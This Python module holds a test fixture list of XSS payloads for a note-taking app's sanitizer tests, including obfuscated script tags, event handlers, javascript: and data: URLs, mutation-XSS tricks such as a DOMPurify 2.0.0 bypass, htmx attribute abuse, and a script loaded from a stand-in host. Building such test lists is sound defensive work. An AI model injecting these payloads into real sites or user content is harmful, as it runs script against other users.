"""Known XSS payloads, as a member might type them into a note (Markdown and raw HTML).

Collected from the OWASP XSS Filter Evasion Cheat Sheet, PortSwigger's XSS cheat sheet
(mutation XSS through MathML/SVG namespace confusion, e.g. the DOMPurify 2.0.0 bypass by
Michał Bentkowski), and Markdown-specific tricks (link and image URLs, reference links,
autolinks). Shared by the HTML checks (test_xss.py) and the Chromium test.
"""

SWALLOWS_REST = [
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert('dompurify-2.0.0')>",
]

PAYLOADS = [
    # Script elements, plain and obfuscated.
    "<script>alert('script')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert('split')</script>",
    "<<script>script>alert('nested')//<</script>/script>",
    "<template><script>alert('template')</script></template>",
    # Event handlers.
    "<img src=x onerror=alert('img')>",
    "<img src=\"x` `<script>alert('backtick')</script>\"` `>",
    "<svg onload=alert('svg')>",
    "<svg><animate onbegin=alert('animate') attributeName=x dur=1s>",
    "<body onload=alert('body')>",
    "<details open ontoggle=alert('details')><summary>x</summary></details>",
    "<input autofocus onfocus=alert('input')>",
    "<video><source onerror=alert('video')></video>",
    "<marquee onstart=alert('marquee')>x</marquee>",
    "<div onmouseover=alert('hover') class=\"wikilink\">hover me</div>",
    # javascript:, vbscript: and data: URLs, in Markdown and in HTML.
    "[click](javascript:alert('md-link'))",
    "[click](JaVaScRiPt:alert('md-case'))",
    "[click](&#106;avascript:alert('md-entity'))",
    "[click](java\tscript:alert('md-tab'))",
    "![pic](javascript:alert('md-image'))",
    "<javascript:alert('autolink')>",
    "[ref][evil]\n\n[evil]: javascript:alert('reference')",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgnZGF0YScpPC9zY3JpcHQ+)",
    "<a href=\"javascript:alert('html-link')\">x</a>",
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert('hex-entities')\">x</a>",
    "<a href=\"javas&#99;ript:alert('decimal-entity')\">x</a>",
    "<a href=\" &#14; javascript:alert('control-char')\">x</a>",
    "<a href=\"java&#9;script:alert('tab-entity')\">x</a>",
    "<a href=\"vbscript:msgbox('vb')\">x</a>",
    "<a href=\"data:text/html,<script>alert('data-html')</script>\">x</a>",
    "<svg><a xlink:href=\"javascript:alert('xlink')\"><text x=0 y=20>x</text></a></svg>",
    "<math href=\"javascript:alert('math-href')\">x</math>",
    "<math><maction actiontype=statusline xlink:href=\"javascript:alert('maction')\">x</maction></math>",
    "<table background=\"javascript:alert('table')\"><tr><td>x</td></tr></table>",
    # Frames, plugins, forms, meta, base, styles.
    "<iframe src=\"javascript:alert('iframe')\"></iframe>",
    "<iframe srcdoc=\"<script>alert('srcdoc')</script>\"></iframe>",
    "<object data=\"javascript:alert('object')\"></object>",
    "<embed src=\"data:text/html,<script>alert('embed')</script>\">",
    "<form action=\"javascript:alert('form')\"><input type=submit value=go></form>",
    "<button formaction=\"javascript:alert('formaction')\">go</button>",
    "<isindex action=\"javascript:alert('isindex')\" type=image>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('meta')\">",
    "<base href=\"javascript:alert('base')//\">",
    "<link rel=stylesheet href=\"javascript:alert('link')\">",
    "<style>@import 'javascript:alert(\"style\")'; body { background: red }</style>",
    "<p style=\"background:url(javascript:alert('style-attr'))\">styled</p>",
    "<div style=\"position:fixed;inset:0\" class=\"x\">overlay</div>",
    # Mutation XSS through namespace confusion and parser differentials.
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('mglyph')></style></mglyph></table></mtext></math>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert('svg-style')>\">",
    "<math><mi xlink:href=\"javascript:alert('mi')\">x</mi></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('noscript')>\"></noscript>",
    "<!--<img src=\"--><img src=x onerror=alert('comment')//\">",
    "<textarea></textarea><img src=x onerror=alert('textarea')>",
    # htmx attributes would make the site's own htmx fetch and swap on the reader's behalf.
    "<div hx-get=\"/accounts/login/\" hx-trigger=\"load\" hx-target=\"body\">htmx</div>",
    "<a href=\"/notes/\" data-hx-post=\"/notes/1/delete/\" data-hx-trigger=\"mouseover\">htmx data</a>",
    "<a class=\"wikilink\" data-slug=\"../../api/v1/notes\" href=\"/\">preview path</a>",
    # Through our own Markdown extensions: wiki-link labels and math.
    "[[LoRA|<img src=x onerror=alert('wiki-label')>]]",
    "[[<script>alert('wiki-target')</script>]]",
    "$\\href{javascript:alert('latex-href')}{click}$",
    "$$\\style{background:url(javascript:alert(1))}{x}$$",
    "$\\text{<img src=x onerror=alert('latex-text')>}$",
    # Last: an unclosed <style> inside MathML swallows everything after it, as it would in
    # a browser, so payloads placed after it would not be tested in the all-in-one note.
    *SWALLOWS_REST,
]
